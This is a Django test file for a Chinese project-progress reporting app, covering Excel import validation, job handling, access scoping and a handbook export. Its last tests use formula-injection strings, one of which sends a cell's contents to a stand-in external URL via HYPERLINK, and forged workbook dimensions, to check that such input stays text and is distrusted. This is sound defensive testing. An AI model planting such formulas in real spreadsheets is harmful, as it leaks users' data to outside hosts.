@override_settings(PROGRESS_IMPORT_SYNC_ROWS=1)
def test_every_error_of_a_background_import_is_named_at_once_and_nothing_written(
    people, county, small_steps, django_capture_on_commit_callbacks, request
):
    def smuggle(workbook):
        sheet = workbook[xlsx.SHEET]
        sheet["A8"], sheet["H8"], sheet["I8"] = county["yixing"].pk, 10, "施工"
        sheet["A9"], sheet["H9"] = "abc", 10
        sheet["A10"], sheet["H10"] = county["c"].pk, 5

    blank = template(people)
    where = rows_by_project(sheet_of(blank)[1])
    data = fill(
        blank,
        {
            county["a"].pk: {**GOOD, "investment_this_month": -5},
            county["b"].pk: {**GOOD, "new_stage": "封顶"},
            county["c"].pk: GOOD,
        },
        smuggle,
    )
    job = _queued(people["county_filer"], data, django_capture_on_commit_callbacks)

    request.getfixturevalue("no_second_parse")
    assert imports.run_import(job.pk) == ImportStatus.FAILED
    job.refresh_from_db()
    assert job.message == "共5处错误，未导入任何数据。请按行列提示修改后重新上传。"
    assert job.errors == sorted(
        [
            {
                "row": where[county["a"].pk],
                "column": "本月完成投资（万元）",
                "message": "本月完成投资不能为负数。",
            },
            {
                "row": where[county["b"].pk],
                "column": "本月进入阶段",
                "message": "“封顶”不是可选的阶段（开工、竣工、投产、达效）。",
            },
            {
                "row": 8,
                "column": "平台编号",
                "message": f"平台编号{county['yixing'].pk}对应的项目不存在或不在您的管辖范围内。",
            },
            {"row": 9, "column": "平台编号", "message": "平台编号缺失或有误，请勿修改灰色列。"},
            {
                "row": 10,
                "column": "平台编号",
                "message": f"与第{where[county['c'].pk]}行是同一个项目，请合并为一行。",
            },
        ],
        key=lambda error: error["row"],
    )
    assert job.processed_rows == job.total_rows == 6
    assert not MonthlyReport.objects.exists() and not ProgressEvent.objects.exists()


def test_every_duplicate_names_the_first_row_of_its_project(people, county, small_steps):
    def duplicate(workbook):
        sheet = workbook[xlsx.SHEET]
        for target, source in ((8, 6), (9, 4), (10, 6)):
            for column in range(1, len(xlsx.COLUMNS) + 1):
                sheet.cell(row=target, column=column, value=sheet.cell(source, column).value)

    job = upload(people["county_filer"], fill(template(people), {}, duplicate))
    assert job.status == ImportStatus.FAILED
    assert job.errors == [
        {"row": 8, "column": "平台编号", "message": "与第6行是同一个项目，请合并为一行。"},
        {"row": 9, "column": "平台编号", "message": "与第4行是同一个项目，请合并为一行。"},
        {"row": 10, "column": "平台编号", "message": "与第6行是同一个项目，请合并为一行。"},
    ]
    assert not MonthlyReport.objects.exists()


@override_settings(PROGRESS_IMPORT_SYNC_ROWS=1)
def test_a_job_queued_by_the_earlier_version_still_imports(
    people, county, django_capture_on_commit_callbacks, request
):
    """Its rows were stored as one JSON document (some still as values and errors apart)."""
    data = fill(template(people), {county["a"].pk: GOOD, county["c"].pk: GOOD})
    where = rows_by_project(sheet_of(data)[1])
    job = _queued(people["county_filer"], data, django_capture_on_commit_callbacks)
    blank = dict.fromkeys(INPUT_FIELDS, "")
    rows = [
        [where[county["a"].pk], county["a"].pk, None, 120, "主体结构封顶", 65.5, "", None, "", ""],
        [where[county["b"].pk], county["b"].pk, blank, {}],
        [
            where[county["c"].pk],
            county["c"].pk,
            {**GOOD, "new_stage": "started", "stage_date": {"__date__": "2026-11-12"}},
            {},
        ],
    ]
    name = f"{job.file.name}.rows.json"
    job.file.storage.delete(name)
    job.file.storage.save(
        name,
        ContentFile(json.dumps({"period": PERIOD, "region_code": "320281", "rows": rows}).encode()),
    )

    request.getfixturevalue("no_second_parse")
    assert imports.run_import(job.pk) == ImportStatus.DONE
    job.refresh_from_db()
    assert (job.created, job.processed_rows) == (2, 3)
    a = MonthlyReport.objects.get(project=county["a"], period=PERIOD)
    assert (a.investment_this_month, a.percent_complete) == (Decimal(120), Decimal("65.50"))
    c = MonthlyReport.objects.get(project=county["c"], period=PERIOD)
    assert (c.new_stage, c.stage_date) == ("started", datetime.date(2026, 11, 12))
    assert not job.file.storage.exists(name)  # the rows went with the job


def test_imports_are_seen_by_the_uploader_and_the_offices_above(people, county):
    job = upload(people["county_filer"], fill(template(people), {county["a"].pk: GOOD}))
    assert list(ProgressImport.objects.for_user(people["county_filer"])) == [job]
    assert list(ProgressImport.objects.for_user(people["city_office"])) == [job]
    assert list(ProgressImport.objects.for_user(people["county_office"])) == [job]
    assert not ProgressImport.objects.for_user(people["county_filer2"]).exists()


# --- the completion handbook --------------------------------------------------------------------


def test_handbook_groups_every_project_in_scope_with_subtotals(people, county):
    filer, city = people["county_filer"], people["city_office"]
    for project, amounts in ((county["a"], (100, 200)), (county["b"], (50, 0))):
        for period, amount in zip(("2026-09", "2026-10"), amounts, strict=True):
            report, _ = services.report_save(
                project=project,
                period=period,
                by=filer,
                investment_this_month=str(amount),
                physical_progress=f"{period}进展",
            )
            services.report_submit(report=report, by=filer)
            services.report_approve(report=report, by=city)
    # a draft of November is not in the handbook (approved figures only)
    services.report_save(project=county["a"], period=PERIOD, by=filer, investment_this_month="9")
    yixing = county["yixing"]
    Project.objects.filter(pk=yixing.pk).update(planned_investment_year=Decimal(400))
    other_filer = factories.user("yixing_filer", "320282", ["county_filer"])
    report, _ = services.report_save(
        project=yixing,
        period="2026-10",
        by=other_filer,
        investment_this_month="80",
        physical_progress="设备安装",
    )
    services.report_submit(report=report, by=other_filer)
    services.report_approve(report=report, by=city)
    active(people, region="321322")  # 沭阳: outside the city office's scope

    sheet = load_workbook(io.BytesIO(handbook.handbook(city, PERIOD))).active
    header = [c.value for c in sheet[3]]
    assert header[:7] == [
        "序号",
        "地区",
        "项目代码",
        "项目名称",
        "当前阶段",
        "总投资",
        "年度计划投资",
    ]
    assert header[7:18] == [f"{m}月" for m in range(1, 12)] and header[18] == "本年累计"
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=4)]
    projects = [r for r in rows if r[0]]
    subtotals = {r[1]: r for r in rows if not r[0]}
    assert {r[3] for r in projects} == {
        county["a"].name,
        county["b"].name,
        county["c"].name,
        yixing.name,
    }
    assert list(subtotals) == ["江阴市小计", "宜兴市小计", "合计"]
    # rows come grouped: every 江阴 row, its subtotal, then 宜兴
    assert [r[1] for r in rows] == ["江阴市"] * 3 + ["江阴市小计", "宜兴市", "宜兴市小计", "合计"]
    a = next(r for r in projects if r[3] == county["a"].name)
    assert (a[15], a[16], a[17], a[18]) == (100, 200, 0, 300)  # Sept, Oct, Nov (draft), ytd
    assert a[19] == 15.0 and a[20] == "2026-10进展"  # 300 of a 2,000 plan
    for label, members in (
        ("江阴市小计", [r for r in projects if r[1] == "江阴市"]),
        ("宜兴市小计", [r for r in projects if r[1] == "宜兴市"]),
        ("合计", projects),
    ):
        for column in [5, 6, *range(7, 19)]:
            assert subtotals[label][column] == sum(r[column] for r in members), (label, column)
    assert subtotals["合计"][18] == 430
    assert subtotals["江阴市小计"][19] == 17.5  # 350 of 2,000


def test_the_handbook_keeps_a_formula_like_name_and_progress_as_text(people, county):
    filer, city = people["county_filer"], people["city_office"]
    hostile = '=HYPERLINK("http://example.invalid/","详见")'
    Project.objects.filter(pk=county["a"].pk).update(name=hostile)
    report, _ = services.report_save(
        project=county["a"],
        period="2026-10",
        by=filer,
        investment_this_month="10",
        physical_progress="+1 施工",
    )
    services.report_submit(report=report, by=filer)
    services.report_approve(report=report, by=city)
    sheet = load_workbook(io.BytesIO(handbook.handbook(city, PERIOD))).active
    row = next(row for row in sheet.iter_rows(min_row=4) if row[3].value == hostile)
    assert row[3].data_type == "s" and row[20].value == "+1 施工" and row[20].data_type == "s"


def test_an_import_costs_a_few_queries_whatever_its_rows(
    people, county, django_assert_max_num_queries
):
    more = [active(people) for _n in range(17)]
    filer = people["county_filer"]
    filer.role_codes  # noqa: B018 - read once per request anyway
    data = fill(template(people), {p.pk: GOOD for p in [county["a"], county["b"], *more]})
    with django_assert_max_num_queries(22):  # about 16 queries per row before
        job = upload(filer, data)
    assert (job.status, job.created, job.total_rows) == (ImportStatus.DONE, 19, 20)


# --- what the file says about itself is not trusted -------------------------------------------


def _with_dimension(data: bytes, ref: str) -> bytes:
    """The workbook with its sheet's <dimension> rewritten to claim ``ref``."""
    import re

    with zipfile.ZipFile(io.BytesIO(data)) as source:
        sheet = source.read("xl/worksheets/sheet1.xml")
    sheet = re.sub(rb'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>'.encode(), sheet)
    return rezip(data, {"xl/worksheets/sheet1.xml": sheet})


def test_a_dimension_claiming_fewer_rows_drops_none(people, county):
    data = fill(template(people), {county["a"].pk: GOOD, county["b"].pk: GOOD})
    job = upload(people["county_filer"], _with_dimension(data, "A1:N4"))
    assert job.status == ImportStatus.DONE and job.created == 2


def test_a_dimension_claiming_a_million_rows_is_read_quickly(people, county):
    data = fill(template(people), {county["a"].pk: GOOD})
    start = time.perf_counter()
    job = upload(people["county_filer"], _with_dimension(data, "A1:XFD1048576"))
    assert time.perf_counter() - start < 10
    assert job.status == ImportStatus.DONE and job.created == 1


def test_a_sheet_with_too_many_rows_even_blank_is_refused(people, county, settings):
    settings.PROGRESS_IMPORT_MAX_ROWS = 5

    def far_row(workbook):
        workbook[xlsx.SHEET].cell(
            row=xlsx.FIRST_ROW + 5 + xlsx.BLANK_ROWS_ALLOWED + 2, column=2, value="x"
        )

    data = fill(template(people), {county["a"].pk: GOOD}, edit=far_row)
    assert "含空行" in refused(people["county_filer"], data)


def test_typed_text_never_becomes_a_formula_in_downloads(people, county):
    text = '=HYPERLINK("http://example.invalid/?"&E4,"详见")'
    services.report_save(
        project=county["a"],
        period=PERIOD,
        by=people["county_filer"],
        investment_this_month="10",
        physical_progress=text,
        problems="-1+1",
    )
    _workbook, sheet = sheet_of(template(people))
    row = rows_by_project(sheet)[county["a"].pk]
    for key in ("physical_progress", "problems"):
        cell = sheet[f"{LETTER[key]}{row}"]
        assert cell.data_type == "s", key
    assert sheet[f"{LETTER['physical_progress']}{row}"].value == text
